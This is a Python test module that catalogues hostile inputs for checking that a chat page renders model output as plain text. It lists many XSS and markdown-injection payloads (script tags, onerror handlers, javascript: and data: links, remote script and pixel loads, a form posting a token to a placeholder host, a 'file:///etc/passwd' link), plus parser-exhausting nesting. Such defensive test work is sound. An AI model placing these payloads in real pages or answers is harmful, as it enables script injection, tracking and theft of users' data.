"""Texts that would run, load, lead to or stop something, if the page took them for more than text."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Final

CANARY: Final = "canary"  # the function that they call when they run
TRAP: Final = "trap.invalid:9"  # where they point; a test puts an address there that it listens on


@dataclass(frozen=True, slots=True)
class Payload:
    """A text by its name, and what of it must be readable in an answer (None: whatever Markdown leaves)."""

    name: str
    text: str
    readable: str | None = None

    def aimed(self, address: str) -> Payload:
        """Return a copy of the payload that points at another address (`host:port`)."""
        readable = self.readable and self.readable.replace(TRAP, address)
        return Payload(self.name, self.text.replace(TRAP, address), readable)


def _html(name: str, html: str) -> Payload:
    """Raw HTML in one paragraph: it is shown as it was written."""
    return Payload(name, html, html)


def _block(name: str, text: str, readable: str | None = None) -> Payload:
    """What begins a block, and so comes after `[1] ` and an empty line."""
    return Payload(name, f"\n\n{text}", readable)


_LINKS: Final = {
    "javascript": "javascript:canary()",
    "in mixed case": "JaVaScRiPt:canary()",
    "with an entity": "javascript&#58;canary()",
    "with a named entity": "javascript&colon;canary()",
    "with a tab entity": "java&Tab;script:canary()",
    "with a newline entity": "java&NewLine;script:canary()",
    "with an entity for a letter": "&#x6A;avascript:canary()",
    "after a control character": "\x01javascript:canary()",
    "with a zero width space": "java\u200bscript:canary()",
    "percent encoded": "javascript%3Acanary()",
    "with a comment and a newline": "javascript://%0acanary()",
    "of data": "data:text/html,<script>canary()</script>",
    "of data in base64": "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "of an svg": "data:image/svg+xml,<svg/onload=canary()>",
    "of vbscript": "vbscript:canary()",
    "of a blob": "blob:http://127.0.0.1/canary",
    "of a file": "file:///etc/passwd",
    "of the source": f"view-source:http://{TRAP}/",
    "of an intent": "intent://x#Intent;scheme=javascript;end",
    "without a scheme": f"//{TRAP}/evil",
    "with backslashes": f"\\\\\\\\{TRAP}\\\\evil",
    "with a slash and a backslash": f"/\\\\{TRAP}/evil",
    "to the page": "/",
    "to an endpoint": "/conversations?limit=1",
    "to a conversation": "#c=another",
    "that signs in": "#token=another",
    "to nothing": "",
    "in dots": "../../..",
}

# Each address in every form of a link or an image that Markdown has.
LINKS: Final = tuple(
    Payload(
        f"link {what}",
        f"[press](<{url}>) [press]({url} 'title') ![seen](<{url}>) [![seen]({url})](<{url}>) <{url}> {url} [press][1] "
        f"[press][] [1] ![press] | [x]({url}\n\n[1]: <{url}>\n[press]: {url}\n\n{url}",
        "press",
    )
    for what, url in _LINKS.items()
)

HTML: Final = (
    _html("script", "<script>canary()</script>"),
    _html("script of another origin", f'<script src="http://{TRAP}/x.js"></script>'),
    _html("module", f'<script type=module>import "http://{TRAP}/x.js"; canary()</script>'),
    _html("script cut in two", "<scr<script>ipt>canary()</scr</script>ipt>"),
    _html("image's error", "<img src=x onerror=canary()>"),
    _html("image's error without spaces", '<img/src="x"/onerror="canary()">'),
    _html("svg's load", "<svg/onload=canary()>"),
    _html("svg's script", "<svg><script>canary()</script></svg>"),
    _html("svg's animation", "<svg><animate onbegin=canary() attributeName=x dur=1s></svg>"),
    _html("svg's use", f'<svg><use href="http://{TRAP}/x.svg#x"></use></svg>'),
    _html("foreign object", "<svg><foreignObject><iframe onload=canary()></iframe></foreignObject></svg>"),
    _html("math", '<math href="javascript:canary()"><mtext>press</mtext></math>'),
    _html("iframe", f'<iframe src="http://{TRAP}/frame"></iframe>'),
    _html("iframe's document", '<iframe srcdoc="<script>parent.canary()</script>"></iframe>'),
    _html("iframe of a script", "<iframe src=javascript:parent.canary()></iframe>"),
    _html("object", f'<object data="http://{TRAP}/object"></object>'),
    _html("embed", f'<embed src="http://{TRAP}/embed">'),
    _html("base", f'<base href="http://{TRAP}/">'),
    _html("refresh", f'<meta http-equiv="refresh" content="0;url=http://{TRAP}/refresh">'),
    _html("policy", "<meta http-equiv='Content-Security-Policy' content='script-src *'>"),
    _html("stylesheet", f'<link rel="stylesheet" href="http://{TRAP}/x.css">'),
    _html("prefetch", f'<link rel="dns-prefetch preconnect prefetch" href="http://{TRAP}/">'),
    _html("style", "<style>body{display:none}</style>"),
    _html("import", f'<style>@import "http://{TRAP}/x.css";</style>'),
    _html("style attribute", f'<p style="position:fixed;inset:0;background:url(http://{TRAP}/x)">over all</p>'),
    _html("picture", f'<picture><source srcset="http://{TRAP}/1x"><img src="http://{TRAP}/2x"></picture>'),
    _html("video", f'<video src="http://{TRAP}/v" poster="http://{TRAP}/p" onerror=canary() autoplay></video>'),
    _html("audio", f'<audio src="http://{TRAP}/a" onerror=canary() autoplay></audio>'),
    _html("form", f'<form action="http://{TRAP}/form"><input name=token autofocus onfocus=canary()><button>Go'),
    _html("focus", "<a id=x tabindex=0 autofocus onfocus=canary() href=#>press</a>"),
    _html("details", "<details open ontoggle=canary()><summary>press</summary></details>"),
    _html("body", "<body onload=canary() onpageshow=canary()>"),
    _html("marquee", "<marquee onstart=canary()>moves</marquee>"),
    _html("dialog", "<dialog open>Your session has ended <button popovertarget=x onbeforetoggle=canary()>OK"),
    _html("template", "<template shadowrootmode=open><script>canary()</script></template>"),
    _html("custom element", "<is-land is=script onclick=canary()>press</is-land>"),
    _html("ping", f'<a href="#" ping="http://{TRAP}/ping" target=_self download>press</a>'),
    _html("noscript", '<noscript><p title="</noscript><img src=x onerror=canary()>"></noscript>'),
    _html(
        "mutation of math", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1'></table>"
    ),
    _html("mutation of svg", '<svg></p><style><a id="</style><img src=1 onerror=canary()>">'),
    _html("mutation of a title", "<title>a</title><textarea></textarea><xmp></xmp><plaintext>"),
    _html("clobbered root", "<div id=root></div><div id=composer></div><img name=cookie><form id=__proto__></form>"),
    _html("clobbered document", "<form name=body></form><a id=defaultView></a><img name=getElementById>"),
    _html("classes of the page", '<div class="page open sidebar skip shade sign-in">over all</div>'),
    _html("unclosed tag", "<img src=x onerror=canary() "),
    _html("unclosed attribute", '<a href="javascript:canary()'),
    _html("null in a tag", "<scr\ufffdipt>canary()</scr\ufffdipt>"),
    _html("full width", "＜script＞canary()＜/script＞"),
    Payload(
        "entities", "&lt;img src=x onerror=canary()&gt; &#60;script&#62;canary()&#60;/script&#62;", "<script>canary()"
    ),
    Payload("comment", "<!-- <img src=x onerror=canary()> --> seen <!--> <script>canary()</script> -->", "seen"),
    _html("processing instruction", "<?xml version='1.0'?> <![CDATA[<script>canary()</script>]]> <!DOCTYPE x>"),
    _block("block of HTML", "<div>\n<script>\ncanary()\n</script>\n\n*then*\n\n</div>", "canary()"),
    _block("block of a script", "<script>\ncanary()\n\ncanary()\n</script>", "canary()"),
    _block("block of a style", f"<style>\n@import url(http://{TRAP}/x.css);\n</style>", "@import"),
    _block("block that is not closed", "<textarea><svg onload=canary()>\n\n**bold**", "bold"),
)

MARKDOWN: Final = (
    Payload("remote image", f"![a picture](http://{TRAP}/pixel.png?who=you 'a title')", "a picture"),
    Payload("image without a text", f"![](http://{TRAP}/pixel.png)"),
    Payload("image in a link", f"[![a picture](http://{TRAP}/pixel.png)](http://{TRAP}/)", "a picture"),
    Payload("alt that closes", f'!["><img src=x onerror=canary()>](http://{TRAP}/x)'),
    Payload("title that closes", f"[press](http://{TRAP}/ '\"><script>canary()</script>')", "press"),
    Payload("address that closes", f'[press](<http://{TRAP}/"onmouseover="canary()>)', "press"),
    Payload("user in an address", f"[https://bank.example](http://bank.example@{TRAP}/)", "https://bank.example"),
    Payload("plain addresses", f"http://{TRAP}/plain www.{TRAP}/plain mailto:a@b.example a@b.example xmpp:a@b.example"),
    Payload("very long address", f"http://{TRAP}/" + "a" * 20_000),
    Payload("attributes in braces", "**bold**{onclick=canary() .shade #root} [x]{style='color:red'}", "bold"),
    _block(
        "table",
        f"| <img src=x onerror=canary()> | ![x](http://{TRAP}/t) |\n|:-:|--:|\n| [a](javascript:canary()) | b |",
    ),
    _block("table without an end", "| a | b |\n|---|\n| <script>canary()</script>\n| | | | | |"),
    _block("footnotes", "[^1] [^__proto__]\n\n[^1]: <script>canary()</script>\n[^__proto__]: [x](javascript:canary())"),
    _block(
        "tasks", "- [ ] <input autofocus onfocus=canary()>\n- [x] [a](javascript:canary())\n  - [ ] **done**", "done"
    ),
    _block("fence", "```html\n<script>canary()</script>\n```", "<script>canary()</script>"),
    _block("fence of classes", "```skip shade sign-in onload=canary()\nseen\n```", "seen"),
    _block("fence that closes a tag", '```"><script>canary()</script>\nseen\n```', "seen"),
    _block(
        "fence of a prototype", "```__proto__\nseen\n```\n\n```constructor\nseen\n```\n\n```toString\nseen\n```", "seen"
    ),
    _block("fence of a very long language", "```" + "x" * 5000 + "\nseen\n```", "seen"),
    _block("fence with options", "```js startLine=1e99 noLineNumbers {1-99999999} meta='<b>'\nlet seen;\n```", "seen"),
    _block("fence that is not closed", "```js\n</code></pre><script>canary()</script>", "<script>canary()"),
    _block("fence in a fence", "~~~~md\n```html\n<img src=x onerror=canary()>\n```\n~~~~", "<img"),
    _block(
        "mermaid",
        '```mermaid\ngraph TD; A["<img src=x onerror=canary()>"]; click A "javascript:canary()"\n```',
        "graph",
    ),
    _block("math fence", "```math\n\\href{javascript:canary()}{x}\\unicode{<img src=x onerror=canary()>}\n```", "href"),
    Payload("math", "$\\href{javascript:canary()}{x}$ $$\\htmlClass{shade}{x}$$ \\(x\\) \\[x\\]"),
    _block(
        "frontmatter", "---\ntitle: !!js/function 'canary()'\n---\n\n{{constructor.constructor('canary()')()}}", "{{"
    ),
    Payload("templates", "${canary()} {{canary()}} <%= canary() %> #{canary()} {canary()}", "${canary()}"),
    _block(
        "directives",
        ':::script{onclick="canary()"}\nseen\n:::\n\n::iframe{src=x}\n\n:abbr[x]{onfocus=canary()}',
        "seen",
    ),
    Payload("code span", "`<script>canary()</script>` ``[a](javascript:canary())``", "<script>canary()</script>"),
    Payload(
        "emphasis of HTML", "**<script>canary()</script>** _<img src=x onerror=canary()>_ ~~<svg onload=canary()>~~"
    ),
    _block(
        "heading", "# <img src=x onerror=canary()> {#root}\n\nroot\n====\n\n###### [x](javascript:canary())", "root"
    ),
    _block("quote", "> <script>canary()</script>\n> > [x](javascript:canary())\nlazy", "lazy"),
    _block("numbers", "999999999999. a\n\n0. b\n\n-1. c\n\n18446744073709551616) d"),
    _block("everything unclosed", "**a _b `c [d](e ![f](http://g ~~h <i \"j 'k $$l ```m | n \\"),
)

TEXT: Final = (
    Payload("right to left override", "\u202egpj.exe\u202c \u2066\u2067\u2068 \u2069 \u200f\u061c txt", "gpj.exe"),
    Payload("zero width", "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg"),
    Payload("marks upon marks", "Z" + "\u0300\u0489\u20dd" * 2000),
    Payload("one long word", "w" * 30_000),
    Payload("many lines", "l\n" * 1000),
    Payload("blank at last", "\u00a0\u2028\u2029\u0085 seen \v\f", "seen"),
    Payload("escapes", "\x1b[31mred\x1b[0m \x07\x08 \x7f \x9b31m", "red"),
    Payload("odd characters", "\ufffe\uffff\U0010ffff\ufffd \U000e0041 \ue000"),
    Payload("emoji", "👩‍👩‍👧‍👦🏳️‍🌈" * 300),
    Payload(
        "stray marks", "call(*args, **options) if a <b and _c or `d", "call(*args, **options) if a <b and _c or `d"
    ),
    Payload("null", "null"),
    Payload("undefined", "undefined"),
    Payload("not a number", "NaN"),
    Payload("object", "[object Object]", "[object Object]"),
    Payload("prototype", "__proto__"),
    Payload(
        "JSON", json.dumps({"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}), "polluted"
    ),
    Payload("frame", '{"type":"turn.completed","requestId":"","node_id":"<b>evil</b>"}', "evil"),
    Payload("chunk", 'data: {"type":"error","errorText":"<script>canary()</script>"}\n\ndata: [DONE]', "DONE"),
)

# What makes a parser, a renderer or a stack of calls do too much.
DEEP: Final = (
    _block("quotes in quotes", ">" * 5000 + " deep", "deep"),
    _block("lists in lists", "- " * 5000 + "deep", "deep"),
    _block("numbered lists in lists", "1. " * 5000 + "deep", "deep"),
    _block("quotes and lists", "> - " * 2500 + "deep", "deep"),
    _block("indented lists", "\n".join(" " * level + "- deep" for level in range(200)), "deep"),
    Payload("brackets", "[" * 5000 + "deep" + "]" * 5000, "deep"),
    Payload("links in links", "[" * 2500 + "deep" + "](x)" * 2500, "deep"),
    Payload("images in images", "![" * 2500 + "deep" + "](x)" * 2500, "deep"),
    Payload("open images", "![" * 5000 + "deep", "deep"),
    Payload("stars", "*" * 5000 + "deep" + "*" * 5000, "deep"),
    Payload("open emphasis", "**a *b " * 5000 + "deep", "deep"),
    Payload("strikes", "~~a " * 5000 + "deep", "deep"),
    Payload("backticks", "".join("`" * length + " " for length in range(1, 300)) + "deep", "deep"),
    Payload("tags", "<b>" * 5000 + "deep", "deep"),
    Payload("comments", "<!--" * 5000 + "deep"),
    Payload("angles", "<" * 30_000),
    Payload("entities without an end", "&" * 5000 + "&#x" * 5000),
    Payload("backslashes", "\\" * 30_001),
    Payload("dollars", "$$" * 5000),
    _block("cells", ("|a" * 100 + "|\n") + ("|-" * 100 + "|\n") + ("|b" * 100 + "|\n") * 100, "b"),
    _block("references", "".join(f"[{number}]: x\n" for number in range(3000)) + "\n" + "[1]" * 3000),
    _block("footnotes of footnotes", "[^a]\n\n[^a]: [^b]\n[^b]: [^a]\n" + "[^a]" * 500),
    _block("rules", "---\n\n" * 2000),
    _block("fences", "```\n\n" * 3000),
    Payload("JSON in JSON", "[" * 20_000 + "]" * 20_000),
    Payload("objects in objects", '{"a":' * 5000 + "1" + "}" * 5000),
    Payload("emphasis", "*a _b " * 2500 + "deep" + " b_ a*" * 2500, "deep"),
)

PAYLOADS: Final = (*HTML, *LINKS, *MARKDOWN, *TEXT)
